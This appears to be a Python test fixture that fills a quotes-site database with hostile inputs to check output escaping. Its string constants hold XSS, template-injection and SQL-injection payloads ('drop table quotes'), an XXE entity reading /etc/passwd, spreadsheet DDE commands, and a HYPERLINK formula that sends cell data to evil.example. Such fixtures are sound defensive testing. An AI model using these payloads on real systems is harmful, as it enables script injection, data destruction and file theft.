"""A corpus whose every field tries to run, to break out of markup, or to weigh a page down."""

from __future__ import annotations

from typing import TYPE_CHECKING

import site_corpus as corpus
from site_corpus import Person

from quotes.records import SpeakerType

if TYPE_CHECKING:
    from pathlib import Path

SCRIPT = "<script>window.harmed=1</script>"
IMAGE = '"><img src=x onerror=window.harmed=1>'
ATTRIBUTE = "' onmouseover='window.harmed=1' x='"
TEMPLATE = "{{7*7}}${7*7}{% raw %}<%= 7*7 %>"
LINK = "javascript:window.harmed=1"
DATA = "data:text/html,<script>window.harmed=1</script>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
OVERRIDE = "abc\u202egnp.exe\u2066"
REMOTE = '<img src="https://evil.example/p.png"><link rel=stylesheet href="https://evil.example/c.css">'
CLOSING = "</title></textarea></style></script><svg onload=window.harmed=1>"
MARKDOWN = "[click](javascript:alert(1)) ![x](https://evil.example/y.png)"
SQL = "'; drop table quotes; --"
XML = ']]><!ENTITY x SYSTEM "file:///etc/passwd">&x;\x0b\x1b[31m'
LONG = "long " * 20_000

TEXTS = {
    "script": SCRIPT, "image": IMAGE, "attribute": ATTRIBUTE, "template": TEMPLATE, "link": LINK, "formula": FORMULA,
    "plus": "+1+cmd|' /C calc'!A0", "minus": "-2+3+cmd|' /C calc'!A0", "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "override": OVERRIDE, "remote": REMOTE, "closing": CLOSING, "markdown": MARKDOWN, "sql": SQL, "xml": XML, "long": LONG,
}
URLS = {"script": LINK, "image": DATA, "attribute": "https://ok.example/?x=" + IMAGE, "template": "//evil.example/x",
        "link": "JaVaScRiPt:window.harmed=1", "formula": " javascript:window.harmed=1", "override": "vbscript:x",
        "remote": "https://ok.example/<script>", "closing": "http://[broken"}


def build(path: Path) -> Path:
    """Make the database: one article a text, which is its title, outlet, author, speaker, role, topic and quote."""
    people, rows = {}, []
    for number, (name, text) in enumerate(TEXTS.items()):
        marked = text.replace("{", "(").replace("}", ")") if name == "template" else text
        people[name] = Person(text[:3000], SpeakerType.PERSON, role=f"{text[:2000]} role", affiliation=text[:500],
                              role_class=text[:200], aliases=(f"{text[:1000]} alias",))
        rows.append((f"hostile-{name}", text, f"{text[:1000]} outlet", f"2024-05-{number + 1:02}", URLS.get(name),
                     f"{{s1:{name}}} {{k1:said}} {{c1:{marked}}} and more {marked} after it.\n\n{marked}",
                     {1: (name, "d", "n", text[:100], .5 + number / 50, (text[:200],))}))
    return corpus.build(path, rows, people)
